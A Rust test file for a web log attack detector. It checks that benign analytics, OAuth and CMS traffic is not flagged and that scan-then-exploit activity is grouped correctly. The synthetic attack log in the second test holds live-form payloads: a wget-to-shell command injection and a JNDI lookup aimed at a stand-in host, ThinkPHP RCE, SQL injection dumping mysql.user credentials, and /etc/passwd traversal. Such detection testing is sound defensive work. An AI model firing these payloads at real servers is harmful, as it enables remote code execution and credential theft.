//! Modern benign traffic, generated from the vendors' public parameter documentation, must not
//! be classified as an attack; an address that scans and then exploits successfully gets one
//! high finding, scanners that only failed one aggregated low finding.
//!
//! Shapes (parameter names and value forms as documented): Google Analytics 4 (gtag
//! `/g/collect`) and Universal Analytics measurement protocol, Facebook pixel `/tr`, DoubleClick
//! and Google Ads conversion tags, Matomo tracking HTTP API (`matomo.php`, `piwik.php`), Baidu
//! Tongji `hm.gif`, CNZZ, OAuth 2.0 (RFC 6749: authorization request and response, errors),
//! OpenID Connect and PKCE, SAML redirect binding, WordPress admin-ajax and REST API, MediaWiki
//! `api.php`, phpMyAdmin routes, Roundcube, GraphQL over GET, UTM and click-id tags, JWTs
//! (RFC 7519), client-side error telemetry, and search boxes with SQL-ish words.

use huoyan_core::{Finding, Root, Severity, Window};
use huoyan_web::logs::classify::classify;
use huoyan_web::logs::parse::parse_line;
use huoyan_web::WebOptions;

/// Percent-encodes a query value as browsers and tag libraries do (`encodeURIComponent`).
fn enc(v: &str) -> String {
    let mut out = String::new();
    for b in v.bytes() {
        if b.is_ascii_alphanumeric()
            || matches!(
                b,
                b'-' | b'_' | b'.' | b'~' | b'!' | b'*' | b'(' | b')' | b'\''
            )
        {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

/// Builds `path?k=v&…` with every value encoded.
fn url(path: &str, params: &[(&str, &str)]) -> String {
    if params.is_empty() {
        return path.to_string();
    }
    let q: Vec<String> = params
        .iter()
        .map(|(k, v)| format!("{}={}", enc(k), enc(v)))
        .collect();
    format!("{path}?{}", q.join("&"))
}

/// A small deterministic generator (no dependency, same log every run).
struct Lcg(u64);

impl Lcg {
    fn next(&mut self) -> u64 {
        self.0 = self
            .0
            .wrapping_mul(6_364_136_223_846_793_005)
            .wrapping_add(1_442_695_040_888_963_407);
        self.0 >> 33
    }

    fn pick<'a>(&mut self, v: &[&'a str]) -> &'a str {
        v[(self.next() as usize) % v.len()]
    }

    fn digits(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| char::from(b'0' + (self.next() % 10) as u8))
            .collect()
    }

    fn token(&mut self, n: usize) -> String {
        const A: &[u8] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
        (0..n)
            .map(|_| char::from(A[(self.next() as usize) % A.len()]))
            .collect()
    }

    fn hex(&mut self, n: usize) -> String {
        (0..n)
            .map(|_| char::from(b"0123456789abcdef"[(self.next() % 16) as usize]))
            .collect()
    }
}

const PAGES: &[&str] = &[
    "https://shop.example.com/",
    "https://shop.example.com/products/running-shoes?color=blue&size=42",
    "https://shop.example.com/blog/2024/05/how-to-select-a-running-shoe/",
    "https://shop.example.com/cart?step=2",
    "https://shop.example.com/search?q=union+station+tickets",
    "https://shop.example.com/users/profile/settings",
    "https://shop.example.com/lib/docs/tmp/index.html",
    "https://www.example.org/wiki/Cat_(Unix)",
    "https://example.com/en/var/help/etc/faq.html",
    "https://m.example.com/home/news.php?id=42&lang=en",
];

const TITLES: &[&str] = &[
    "Running Shoes | Example Store",
    "How to select a running shoe — Blog",
    "Cart (2 items) – Example Store",
    "Search results for \"union station\" | Example",
    "Cat (Unix) - Wikipedia",
    "Order by 5pm for next-day delivery! | Shop",
    "id card & passport photos | Example Print",
    "Sleep 8 hours: the science | Health",
    "Q&A: drop table cloths or keep them? | Home & Living",
    "Tom & Jerry; a history",
    "It's 5'10\" — size guide | Example",
];

const SEARCHES: &[&str] = &[
    "select a size",
    "union station",
    "order by price",
    "order by date desc",
    "how to select from a list",
    "drop table cloth",
    "create user account",
    "grant access to my team",
    "in case when it rains then what",
    "cats and dogs",
    "'cats' and 'dogs'",
    "\"exact phrase\" -\"excluded\"",
    "rock 'n' roll",
    "O'Brien",
    "5'10\" height",
    "sleep well",
    "env variables in node",
    "id",
    "cat",
    "del mar",
    "python tutorial",
    "which is better",
    "1990--2000 history",
    "C# vs Java",
    "50% off; today only",
    "tom & jerry",
    "a | b | c",
    "what is $PATH",
    "price < 100 and rating > 4",
    "{name}",
    "{{weather}}",
    "[[Main Page]]",
    "use ${HOME} in bash",
    "onboarding online only once",
    "location = paris",
    "alert (red) level",
    "prompt engineering (GPT)",
    "confirm (yes)",
    "/users/me",
    "the /etc folder on mac",
    "insert into cart",
    "update set list",
    "ls",
    "null, null",
];

const AGENTS: &[&str] = &[
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.6367.82 Mobile Safari/537.36",
];

/// The header.payload.signature example of RFC 7519 style, with claims that carry URLs, scopes
/// and a nonce, signed with random bytes.
fn jwt(r: &mut Lcg) -> String {
    use base64::Engine;
    let b = base64::engine::general_purpose::URL_SAFE_NO_PAD;
    let header = b.encode(r#"{"alg":"RS256","typ":"JWT","kid":"k1"}"#);
    let claims = format!(
        r#"{{"iss":"https://accounts.example.com","sub":"{}","aud":"s6BhdRkqt3","exp":{},"iat":{},"nonce":"{}","scope":"openid profile email","redirect":"https://app.example.com/cb?next=/admin/users","name":"Jane O'Brien"}}"#,
        r.digits(10),
        r.digits(10),
        r.digits(10),
        r.token(12)
    );
    let sig: Vec<u8> = (0..64).map(|_| r.next() as u8).collect();
    format!("{header}.{}.{}", b.encode(claims), b.encode(sig))
}

fn b64(s: &str) -> String {
    use base64::Engine;
    base64::engine::general_purpose::STANDARD.encode(s)
}

/// One benign request target of each kind, varied by `r`.
fn targets(r: &mut Lcg) -> Vec<String> {
    let page = r.pick(PAGES);
    let referrer = r.pick(PAGES);
    let title = r.pick(TITLES);
    let search = r.pick(SEARCHES);
    let cid = format!("{}.{}", r.digits(10), r.digits(10));
    let ts = format!("17{}", r.digits(11));
    let mut out = Vec::new();
    // GA4 (gtag.js): /g/collect.
    out.push(url(
        "/g/collect",
        &[
            ("v", "2"),
            ("tid", "G-8XK2QZ1ABC"),
            ("gtm", "45je45g0v9171234567za200"),
            ("_p", &ts),
            ("gcd", "13l3l3l3l1"),
            ("npa", "0"),
            ("dma", "0"),
            ("cid", &cid),
            ("ul", "en-us"),
            ("sr", "1920x1080"),
            ("uaa", "x86"),
            ("uab", "64"),
            (
                "uafvl",
                "Chromium;124.0.6367.91|Google%20Chrome;124.0.6367.91|Not-A.Brand;99.0.0.0",
            ),
            ("uamb", "0"),
            ("uap", "Windows"),
            ("uapv", "15.0.0"),
            ("_s", "2"),
            ("sid", &r.digits(10)),
            ("sct", "3"),
            ("seg", "1"),
            ("dl", page),
            ("dr", referrer),
            ("dt", title),
            (
                "en",
                r.pick(&["page_view", "scroll", "view_search_results", "add_to_cart"]),
            ),
            ("ep.search_term", search),
            ("ep.content_group", "shop/products"),
            ("epn.value", "59.99"),
            ("up.user_tier", "gold"),
            ("_et", &r.digits(4)),
            ("tfd", &r.digits(4)),
        ],
    ));
    // Universal Analytics measurement protocol v1.
    out.push(url(
        "/collect",
        &[
            ("v", "1"),
            ("_v", "j101"),
            ("a", &r.digits(9)),
            ("t", r.pick(&["pageview", "event", "timing"])),
            ("_s", "1"),
            ("dl", page),
            ("dr", referrer),
            ("dp", "/products/running-shoes"),
            ("ul", "en-us"),
            ("de", "UTF-8"),
            ("dt", title),
            ("sd", "24-bit"),
            ("sr", "1920x1080"),
            ("vp", "1903x937"),
            ("je", "0"),
            ("ec", "Video"),
            ("ea", "play"),
            ("el", "Intro (select a plan)"),
            ("_u", "SACAAEABAAAAACAAI~"),
            ("jid", &r.digits(9)),
            ("gjid", &r.digits(9)),
            ("cid", &cid),
            ("tid", "UA-12345678-1"),
            ("_gid", &format!("{}.{}", r.digits(9), r.digits(10))),
            ("gtm", "2wg4b0ABCDE"),
            ("z", &r.digits(10)),
        ],
    ));
    // Facebook pixel.
    out.push(url(
        "/tr/",
        &[
            ("id", &r.digits(15)),
            (
                "ev",
                r.pick(&["PageView", "ViewContent", "AddToCart", "Search"]),
            ),
            ("dl", page),
            ("rl", referrer),
            ("if", "false"),
            ("ts", &ts),
            ("cd[content_ids]", "[\"SKU-123\",\"SKU-456\"]"),
            ("cd[content_type]", "product"),
            ("cd[value]", "59.99"),
            ("cd[currency]", "USD"),
            ("cd[search_string]", search),
            ("sw", "1920"),
            ("sh", "1080"),
            ("v", "2.9.156"),
            ("r", "stable"),
            ("ec", "1"),
            ("o", "4126"),
            ("fbp", &format!("fb.1.{ts}.{}", r.digits(10))),
            ("fbc", &format!("fb.1.{ts}.IwAR{}", r.token(40))),
            ("it", &ts),
            ("coo", "false"),
            ("rqm", "GET"),
        ],
    ));
    // Google Ads / DoubleClick conversion and Floodlight tags.
    out.push(url(
        &format!("/pagead/viewthroughconversion/{}/", r.digits(9)),
        &[
            ("random", &r.digits(10)),
            ("cv", "11"),
            ("fst", &ts),
            ("bg", "ffffff"),
            ("guid", "ON"),
            ("async", "1"),
            ("gtm", "45be45g0v9171234567za200"),
            ("u_w", "1920"),
            ("u_h", "1080"),
            ("url", page),
            ("ref", referrer),
            ("label", &r.token(20)),
            ("hn", "www.googleadservices.com"),
            ("frm", "0"),
            ("tiba", title),
            ("value", "0"),
            ("bttype", "purchase"),
            (
                "data",
                "event=page_view;ecomm_pagetype=product;ecomm_prodid=SKU-123",
            ),
            ("rfmt", "3"),
            ("fmt", "4"),
        ],
    ));
    out.push(format!(
        "/activity;src={};type=invmedia;cat=shoes0;dc_lat=;dc_rdid=;tag_for_child_directed_treatment=;tfua=;npa=;gtm=45fe4;auiddc={};u1={};ord={}?",
        r.digits(7),
        cid,
        enc(page),
        r.digits(13)
    ));
    // Matomo tracking HTTP API.
    out.push(url(
        r.pick(&["/matomo.php", "/piwik.php", "/js/tracker.php"]),
        &[
            ("action_name", title),
            ("idsite", "1"),
            ("rec", "1"),
            ("r", &r.digits(6)),
            ("h", "14"),
            ("m", "3"),
            ("s", "12"),
            ("url", page),
            ("urlref", referrer),
            ("_id", &r.hex(16)),
            ("_idn", "0"),
            ("send_image", "0"),
            ("_refts", "0"),
            ("pv_id", &r.token(6)),
            ("cookie", "1"),
            ("res", "1920x1080"),
            ("pdf", "1"),
            ("qt", "0"),
            ("realp", "0"),
            ("wma", "0"),
            ("fla", "0"),
            ("java", "0"),
            ("ag", "0"),
            ("dir", "0"),
            ("_cvar", "{\"1\":[\"OS\",\"Windows\"],\"2\":[\"Plan\",\"select\"]}"),
            ("search", search),
            ("search_cat", "docs"),
            ("search_count", "4"),
            ("e_c", "Video"),
            ("e_a", "Play"),
            ("e_n", "Intro: order by date"),
            ("ca", "1"),
            ("pf_net", "120"),
            ("pf_srv", "80"),
            ("uadata", "{\"fullVersionList\":[{\"brand\":\"Chromium\",\"version\":\"124.0.6367.91\"}],\"mobile\":false,\"model\":\"\",\"platform\":\"Windows\",\"platformVersion\":\"15.0.0\"}"),
            ("link", "https://downloads.example.com/files/setup.exe"),
            ("download", "https://downloads.example.com/tmp/report.pdf"),
        ],
    ));
    // Baidu Tongji.
    out.push(url(
        "/hm.gif",
        &[
            ("cc", "1"),
            ("ck", "1"),
            ("cl", "24-bit"),
            ("ds", "1920x1080"),
            ("vl", "937"),
            ("et", "0"),
            ("ja", "0"),
            ("ln", "zh-cn"),
            ("lo", "0"),
            ("lt", &r.digits(10)),
            ("rnd", &r.digits(10)),
            ("si", &r.hex(32)),
            ("v", "1.3.0"),
            ("lv", "3"),
            ("sn", &r.digits(5)),
            ("r", "0"),
            ("ww", "1903"),
            ("ct", "!!"),
            ("u", page),
            ("tt", "首页 | 示例商店"),
            ("ep", "{\"id\":\"btn_buy\",\"type\":\"click\"}"),
        ],
    ));
    // CNZZ.
    out.push(url(
        "/stat.htm",
        &[
            ("id", &r.digits(10)),
            ("r", referrer),
            ("lg", "zh-cn"),
            ("ntime", &r.digits(10)),
            ("cnzz_eid", &format!("{}-{}-", r.digits(10), r.digits(10))),
            ("showp", "1920x1080"),
            ("p", page),
            ("t", title),
            ("umuuid", &format!("{}-{}", r.hex(15), r.hex(15))),
            ("h", "1"),
            ("rnd", &r.digits(10)),
        ],
    ));
    // OAuth 2.0 (RFC 6749 §4.1.1, §4.1.2, §4.1.2.1), OpenID Connect, PKCE (RFC 7636).
    let state = r.token(22);
    out.push(url(
        "/authorize",
        &[
            ("response_type", r.pick(&["code", "code id_token", "token"])),
            ("client_id", "s6BhdRkqt3"),
            ("state", &state),
            ("redirect_uri", "https://client.example.com/cb"),
            ("scope", "openid profile email offline_access"),
            ("nonce", &r.token(16)),
            (
                "prompt",
                r.pick(&["consent", "select_account", "login", "none"]),
            ),
            ("code_challenge", &r.token(43)),
            ("code_challenge_method", "S256"),
            ("login_hint", "jane.obrien@example.com"),
            ("ui_locales", "en-US fr-CA"),
            ("response_mode", "query"),
        ],
    ));
    out.push(url(
        "/cb",
        &[("code", "SplxlOBeZQQYbYS6WxSbIA"), ("state", &state)],
    ));
    out.push(url(
        "/cb",
        &[
            ("error", "access_denied"),
            (
                "error_description",
                "The resource owner or authorization server denied the request (select another account).",
            ),
            ("error_uri", "https://auth.example.com/docs/errors#access_denied"),
            ("state", &state),
        ],
    ));
    out.push(url(
        "/oauth2/v2.0/logout",
        &[
            ("id_token_hint", &jwt(r)),
            (
                "post_logout_redirect_uri",
                "https://app.example.com/signed-out?from=/admin/users",
            ),
            ("state", &b64("{\"returnTo\":\"/dashboard?tab=1\"}")),
        ],
    ));
    out.push(url(
        "/login",
        &[
            (
                "next",
                r.pick(&[
                    "/users/42/edit",
                    "/admin/",
                    "/home/",
                    "/tmp-files/",
                    "/opt/in",
                ]),
            ),
            (
                "return_to",
                "https://app.example.com/account/settings?section=security",
            ),
            ("redirect_uri", "https://app.example.com/auth/callback.php"),
            ("continue", "https://mail.example.com/mail/u/0/#inbox"),
            ("rl", referrer),
        ],
    ));
    out.push(url(
        "/saml/SSO",
        &[
            ("SAMLRequest", &b64(&r.token(180))),
            (
                "RelayState",
                "https://app.example.com/projects/7?view=board",
            ),
            (
                "SigAlg",
                "http://www.w3.org/2001/04/xmldsig-more#rsa-sha256",
            ),
            ("Signature", &b64(&r.token(96))),
        ],
    ));
    out.push(url(
        "/reset-password",
        &[("token", &jwt(r)), ("email", "o'brien@example.com")],
    ));
    // WordPress: admin-ajax, REST API, admin screens.
    out.push(url(
        "/wp-admin/admin-ajax.php",
        &[
            (
                "action",
                r.pick(&[
                    "heartbeat",
                    "wp-compression-test",
                    "query-attachments",
                    "woocommerce_get_refreshed_fragments",
                ]),
            ),
            ("_nonce", &r.hex(10)),
            ("test", "1"),
            ("_", &ts),
        ],
    ));
    out.push(url(
        "/wp-json/wp/v2/posts",
        &[
            ("per_page", "10"),
            ("orderby", "date"),
            ("order", "desc"),
            ("_embed", "1"),
            ("search", search),
            ("_fields", "id,title,link,excerpt"),
            ("categories", "3,5"),
            ("context", "view"),
        ],
    ));
    out.push(url("/", &[("s", search), ("post_type", "product")]));
    out.push(url(
        "/",
        &[("rest_route", "/wp/v2/users/me"), ("_locale", "user")],
    ));
    out.push(url(
        "/wp-admin/load-scripts.php",
        &[
            ("c", "0"),
            ("load[chunk_0]", "jquery-core,jquery-migrate,utils"),
            ("ver", "6.1.1"),
        ],
    ));
    out.push(url(
        "/wp-admin/admin.php",
        &[
            ("page", "wc-admin"),
            ("path", "/analytics/overview"),
            ("period", "month"),
        ],
    ));
    out.push(url(
        "/wp-login.php",
        &[
            ("redirect_to", "https://shop.example.com/wp-admin/"),
            ("reauth", "1"),
        ],
    ));
    out.push(url(
        "/wp-admin/customize.php",
        &[
            ("return", "/wp-admin/themes.php"),
            ("url", "https://shop.example.com/sample-page/"),
        ],
    ));
    out.push(url(
        "/wp-admin/edit.php",
        &[
            ("post_type", "page"),
            ("orderby", "title"),
            ("order", "asc"),
            ("s", search),
        ],
    ));
    // MediaWiki action API.
    out.push(url(
        "/w/api.php",
        &[
            ("action", "query"),
            ("format", "json"),
            ("prop", "revisions|info|pageimages"),
            ("titles", "Cat (Unix)|Select (SQL)|Main Page"),
            ("rvprop", "ids|timestamp|user|comment|content"),
            ("rvslots", "main"),
            ("formatversion", "2"),
            ("meta", "tokens"),
            ("type", "csrf|login"),
        ],
    ));
    out.push(url(
        "/w/api.php",
        &[
            ("action", "parse"),
            ("format", "json"),
            ("text", "{{Infobox software|name=cat|operating system=[[Unix]]}} '''cat''' reads files; see [[Id (Unix)|id]] & {{Citation needed|date=May 2024}}"),
            ("contentmodel", "wikitext"),
            ("disablelimitreport", "1"),
        ],
    ));
    out.push(url(
        "/w/api.php",
        &[
            ("action", "opensearch"),
            ("search", search),
            ("limit", "10"),
            ("namespace", "0"),
            ("format", "json"),
        ],
    ));
    out.push(url(
        "/w/index.php",
        &[
            ("title", "Special:Search"),
            ("search", search),
            ("fulltext", "1"),
            ("ns0", "1"),
        ],
    ));
    out.push(url(
        "/w/load.php",
        &[
            ("lang", "en"),
            ("modules", "startup"),
            ("only", "scripts"),
            ("raw", "1"),
            ("skin", "vector-2022"),
        ],
    ));
    // phpMyAdmin (its SQL console passes the query in the URL).
    out.push(url(
        "/phpmyadmin/index.php",
        &[
            ("route", "/sql"),
            ("db", "shop"),
            ("table", "users"),
            ("pos", "0"),
        ],
    ));
    out.push(url(
        "/phpmyadmin/index.php",
        &[
            ("route", "/sql"),
            ("db", "shop"),
            ("table", "orders"),
            (
                "sql_query",
                "SELECT * FROM `orders` WHERE `status` = 'paid' ORDER BY `created_at` DESC",
            ),
            ("goto", "index.php?route=/table/sql"),
            ("token", &r.hex(32)),
        ],
    ));
    out.push(url(
        "/phpmyadmin/index.php",
        &[
            ("route", "/database/structure"),
            ("db", "shop"),
            ("ajax_request", "true"),
            ("ajax_page_request", "true"),
        ],
    ));
    out.push(url(
        "/phpmyadmin/js/messages.php",
        &[("l", "en"), ("v", "5.2.1"), ("lang", "en")],
    ));
    // Roundcube.
    out.push(url(
        "/",
        &[
            ("_task", "mail"),
            ("_action", "show"),
            ("_uid", &r.digits(4)),
            ("_mbox", "INBOX"),
        ],
    ));
    out.push(url(
        "/",
        &[
            ("_task", "mail"),
            ("_action", "list"),
            ("_mbox", "INBOX"),
            ("_search", "1"),
            ("_q", search),
            ("_headers", "subject,from"),
            ("_refresh", "1"),
            ("_remote", "1"),
            ("_unlock", &format!("loading{ts}")),
        ],
    ));
    out.push(url(
        "/",
        &[
            ("_task", "mail"),
            ("_action", "get"),
            ("_uid", "5"),
            ("_part", "2"),
            ("_mbox", "INBOX/Sent Items"),
            ("_download", "1"),
        ],
    ));
    out.push(url(
        "/",
        &[
            ("_task", "login"),
            ("_url", "_task=mail&_mbox=INBOX&_action=show&_uid=12"),
        ],
    ));
    // GraphQL over GET, JSON:API query conventions, JSONP.
    out.push(url(
        "/graphql",
        &[
            ("query", "query GetUser($id: ID!) { user(id: $id) { name email posts(first: 5, orderBy: {field: CREATED_AT, direction: DESC}) { title } } }"),
            ("variables", "{\"id\":\"42\",\"filter\":{\"q\":\"select a size\"}}"),
            ("operationName", "GetUser"),
        ],
    ));
    out.push(url(
        "/api/articles",
        &[
            ("include", "author,comments.author"),
            ("fields[articles]", "title,body"),
            ("filter[status]", "published"),
            ("sort", "-created_at,title"),
            ("page[number]", "2"),
            ("page[size]", "20"),
        ],
    ));
    out.push(url(
        "/api/suggest",
        &[
            ("callback", &format!("jQuery3600{}_{ts}", r.digits(16))),
            ("term", search),
            ("_", &ts),
        ],
    ));
    // UTM and click ids on a landing page.
    out.push(url(
        "/products/running-shoes",
        &[
            (
                "utm_source",
                r.pick(&["newsletter", "facebook", "google", "baidu"]),
            ),
            ("utm_medium", r.pick(&["email", "cpc", "social"])),
            (
                "utm_campaign",
                r.pick(&[
                    "spring_sale_2024",
                    "{{campaign.name}}",
                    "brand|exact",
                    "select-plan",
                ]),
            ),
            ("utm_term", search),
            ("utm_content", "cta_button"),
            ("gclid", &format!("Cj0KCQjw{}", r.token(80))),
            ("fbclid", &format!("IwAR{}", r.token(60))),
            ("msclkid", &r.hex(32)),
            ("_hsenc", &format!("p2ANqtz-{}", r.token(60))),
            ("mc_cid", &r.hex(10)),
        ],
    ));
    // Client-side error and performance telemetry.
    out.push(url(
        "/api/telemetry",
        &[
            ("msg", "TypeError: Cannot read properties of undefined (reading 'id')"),
            ("stack", "TypeError: x is undefined\n    at HTMLDocument.<anonymous> (https://shop.example.com/static/app.js:1:2345)\n    at Array.forEach (<anonymous>)\n    at https://shop.example.com/lib/vendor.js:3:77"),
            ("url", page),
            ("line", "1"),
            ("col", "2345"),
            ("ua", r.pick(AGENTS)),
            ("perf", "{\"timing\":{\"of\":1712345678901,\"n\":0,\"u\":1234},\"navigation\":{\"type\":0}}"),
            ("af", "err,spa,xhr,stn,ins"),
        ],
    ));
    out
}

fn benign_log(lines: usize) -> String {
    let mut r = Lcg(0x5eed);
    let mut out = String::new();
    let mut n = 0;
    while n < lines {
        for t in targets(&mut r) {
            let ip = format!("198.51.100.{}", r.next() % 200 + 1);
            let status = r.pick(&["200", "200", "200", "204", "302", "304"]);
            out.push_str(&format!(
                "{ip} - - [14/Mar/2025:{:02}:{:02}:{:02} +0000] \"GET {t} HTTP/1.1\" {status} {} \"https://shop.example.com/\" \"{}\"\n",
                n / 3600 % 24,
                n / 60 % 60,
                n % 60,
                r.next() % 50_000,
                r.pick(AGENTS)
            ));
            n += 1;
        }
    }
    out
}

/// The findings `web.attack` reports for one access log.
fn attack_findings(log: &str) -> Vec<Finding> {
    let dir = tempfile::tempdir().expect("tempdir");
    std::fs::create_dir_all(dir.path().join("var/log/nginx")).expect("mkdir");
    std::fs::write(dir.path().join("var/log/nginx/access.log"), log).expect("write");
    let root = Root::new(dir.path()).expect("root");
    let opts = WebOptions {
        window: Window::default(),
        read_logs: true,
        report_log_findings: true,
        ..WebOptions::default()
    };
    let (out, _) = huoyan_web::analyse(&root, &Default::default(), &opts);
    out.findings
        .into_iter()
        .filter(|f| f.check_id == "web.attack")
        .collect()
}

#[test]
fn modern_benign_traffic_is_not_an_attack() {
    let log = benign_log(5_000);
    let mut flagged = Vec::new();
    let mut total = 0;
    for line in log.lines() {
        let rec = parse_line(line).expect("generated line parses");
        total += 1;
        let c = classify(&rec);
        if !c.classes.is_empty() {
            // Name the parameters that carry the classes.
            let query = rec.target.split_once('?').map_or("", |(_, q)| q);
            let mut culprits = Vec::new();
            for p in query.split('&') {
                let one = line.replace(&rec.target, &format!("/x?{p}"));
                if let Some(r) = parse_line(&one) {
                    let k = classify(&r).classes;
                    if !k.is_empty() {
                        culprits.push(format!("{k:?} {p}"));
                    }
                }
            }
            flagged.push(format!(
                "{:?} {} <= {}",
                c.classes,
                rec.path(),
                culprits.join(" ; ")
            ));
        }
    }
    for f in &flagged {
        println!("classified {f}");
    }
    println!(
        "modern benign traffic: {}/{total} requests classified",
        flagged.len()
    );
    assert!(
        flagged.is_empty(),
        "{} of {total} classified",
        flagged.len()
    );
    let findings = attack_findings(&log);
    for f in &findings {
        println!("finding {} {}", f.severity, f.summary);
    }
    assert!(findings.is_empty());
}

fn line(ip: &str, minute: u32, target: &str, status: u16, agent: &str) -> String {
    format!(
        "{ip} - - [14/Mar/2025:10:{:02}:{:02} +0000] \"GET {target} HTTP/1.1\" {status} 512 \"-\" \"{agent}\"\n",
        minute / 60 % 60,
        minute % 60
    )
}

/// Background scanners that never got anything but errors, plus one address that scans, then
/// exploits an injection that answers 200.
fn scan_then_exploit_log() -> String {
    let mut log = benign_log(2_000);
    let probes = [
        "/.env",
        "/wp-login.php",
        "/phpmyadmin/",
        "/.git/config",
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=md5&vars[1][]=1",
        "/cgi-bin/luci/;stok=/locale?form=country&operation=write&country=$(id%3E%60wget+http://203.0.113.200/t+-O-|sh%60)",
        "/?id=1%27%20OR%20%271%27=%271",
        "/?file=../../../../etc/passwd",
        "/?x=${jndi:ldap://203.0.113.200/a}",
    ];
    for s in 0..30u32 {
        let ip = format!("192.0.2.{}", s + 10);
        let agent = if s % 3 == 0 {
            "Mozilla/5.0 zgrab/0.x"
        } else {
            "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/91.0.4472.124 Safari/537.36"
        };
        for (i, p) in probes.iter().enumerate() {
            let status = if i % 2 == 0 { 404 } else { 403 };
            log.push_str(&line(&ip, s * 10 + i as u32, p, status, agent));
        }
    }
    let attacker = "203.0.113.66";
    let agent = "Mozilla/5.0 (X11; Linux x86_64; rv:109.0) Gecko/20100101 Firefox/115.0";
    for (i, p) in [
        "/admin/",
        "/backup.zip",
        "/.git/HEAD",
        "/phpmyadmin/",
        "/item.php?id=1%27",
    ]
    .iter()
    .enumerate()
    {
        log.push_str(&line(attacker, 500 + i as u32, p, 404, agent));
    }
    log.push_str(&line(attacker, 510, "/item.php?id=1", 200, agent));
    log.push_str(&line(
        attacker,
        511,
        "/item.php?id=-1%20UNION%20SELECT%201,concat(user,0x3a,password),3%20FROM%20mysql.user--%20-",
        200,
        agent,
    ));
    log
}

#[test]
fn a_successful_exploit_stands_out_and_failed_scans_are_one_finding() {
    let findings = attack_findings(&scan_then_exploit_log());
    for f in &findings {
        println!("finding {} {:?} {}", f.severity, f.ips, f.summary);
    }
    let attacker: Vec<&Finding> = findings
        .iter()
        .filter(|f| f.ips == ["203.0.113.66"])
        .collect();
    assert_eq!(attacker.len(), 1, "one finding names the attacker");
    assert!(
        attacker[0].severity >= Severity::High,
        "{}",
        attacker[0].severity
    );
    let others: Vec<&Finding> = findings
        .iter()
        .filter(|f| !f.ips.contains(&"203.0.113.66".to_string()))
        .collect();
    assert_eq!(others.len(), 1, "the failed scanners are one finding");
    assert_eq!(others[0].severity, Severity::Low);
    assert!(
        others[0].summary.contains("30"),
        "counts the sources: {}",
        others[0].summary
    );
}
